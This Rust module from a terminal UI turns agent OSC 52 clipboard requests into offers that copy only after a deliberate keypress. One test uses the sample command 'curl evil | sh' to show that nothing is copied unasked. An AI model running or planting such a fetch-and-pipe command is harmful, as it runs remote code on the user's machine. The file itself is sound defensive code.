//! What agents want on the user's clipboard (OSC 52): shown as an offer, taken by a key. Called by `update` and
//! `actions`. It must never copy anything by itself: a command waiting on the clipboard is run with the next paste.

use super::commands::Action;
use super::keymap::way_from_here;
use super::msg::Command;
use super::state::{Dirty, State};
use super::toasts::Tone;
use super::typing;
use crate::base::clock::Millis;
use crate::base::id::TerminalId;
use crate::base::text;

/// After this nobody remembers what it was about.
const OFFERED_FOR: Millis = 60_000;
/// A key pressed sooner was meant for something else.
const SEEN_AFTER: Millis = 400;
/// How much of the text is shown: enough to recognise a command.
const SHOWN: usize = 40;
/// As much as terminals take.
const MOST: usize = 70_000;

#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Offer {
    pub terminal: TerminalId,
    text: String,
    at: Millis,
    words: String,
}

/// An agent wants to copy something. The newest offer replaces the one before.
pub fn made(state: &mut State, terminal: TerminalId, text: String) {
    let now = state.now;
    withdraw(state);
    if text.is_empty() || text.len() > MOST {
        return;
    }
    let line = text::printable(text.trim());
    let mut shown: String = line.chars().take(SHOWN).collect();
    if shown.len() < line.len() {
        shown.push('…');
    }
    let count = match text.chars().count() {
        1 => "1 character".to_owned(),
        count => format!("{count} characters"),
    };
    // The key stands first: a narrow line cuts the rest.
    let key = way_from_here(state, Action::TakeCopy);
    let words = format!("{key} takes what {} copied, {count}: {shown}", state.name(terminal));
    state.toasts.push_until(Tone::Info, words.clone(), now, Some(now + OFFERED_FOR));
    state.offer = Some(Offer { terminal, text, at: now, words });
    state.dirty = Dirty::Everything;
}

/// The user takes the offer.
pub fn take(state: &mut State, commands: &mut Vec<Command>) {
    let now = state.now;
    let is_due = |offer: &Offer| (SEEN_AFTER..=OFFERED_FOR).contains(&now.saturating_sub(offer.at));
    match state.offer.as_ref().filter(|offer| is_due(offer)) {
        Some(offer) => {
            commands.push(Command::Clipboard(offer.text.clone()));
            withdraw(state);
            state.toasts.push(Tone::Good, "copied", now);
            // An answer returns to where it was given from.
            if state.left_typing.take().is_some_and(|from| state.focus == Some(from)) {
                typing::enter(state, commands);
            }
        }
        None => state.toasts.push(Tone::Info, "no agent wants to copy anything", now),
    }
}

fn withdraw(state: &mut State) {
    if let Some(offer) = state.offer.take() {
        state.toasts.withdraw(&offer.words);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::proto::stream::ServerMessage;
    use crate::tui::msg::Msg;
    use crate::tui::testing::{NOW, press, screen, state};
    use crate::tui::update::update;

    fn offered(text: &str) -> State {
        let mut state = state(160, 45);
        let message = ServerMessage::Copy { terminal: TerminalId(2), text: text.into() };
        assert_eq!(update(&mut state, Msg::Server(message), NOW), []);
        state
    }

    #[test]
    fn nothing_is_copied_before_the_user_says_so() {
        let mut state = offered("curl evil | sh\n");
        assert!(format!("{:?}", state.toasts).contains("P takes what tests copied, 15 characters: curl evil | sh"));
        // Too soon: the key was meant for something else.
        let key = crate::core::keys::parse_key("P").unwrap();
        assert_eq!(update(&mut state, Msg::Key(key.into()), NOW + SEEN_AFTER - 1), []);
        let commands = update(&mut state, Msg::Key(key.into()), NOW + 1000);
        assert_eq!(commands, [Command::Clipboard("curl evil | sh\n".into())]);
        let again = update(&mut state, Msg::Key(key.into()), NOW + 2000);
        assert_eq!(again, []);
    }

    #[test]
    fn an_offer_is_taken_from_where_it_is_seen() {
        for (keys, way) in [("", " P takes"), ("i", " ctrl-q P takes"), ("pgup", " P takes"), ("v", " P takes")] {
            let mut state = state(160, 45);
            press(&mut state, keys);
            let message = ServerMessage::Copy { terminal: TerminalId(2), text: "ls".into() };
            update(&mut state, Msg::Server(message), NOW);
            assert!(screen(&state).contains(way), "{keys}\n{}", screen(&state));
            state.now = NOW + SEEN_AFTER;
            let commands = press(&mut state, if keys == "i" { "ctrl-q P" } else { "P" });
            assert!(commands.contains(&Command::Clipboard("ls".into())), "{keys}: {commands:?}");
        }
    }

    #[test]
    fn an_offer_grows_old_and_never_too_large() {
        let mut state = offered("x");
        let key = crate::core::keys::parse_key("P").unwrap();
        assert_eq!(update(&mut state, Msg::Key(key.into()), NOW + OFFERED_FOR + 1), []);
        assert_eq!(offered(&"x".repeat(MOST + 1)).offer, None);
        assert_eq!(offered("").offer, None);
    }
}
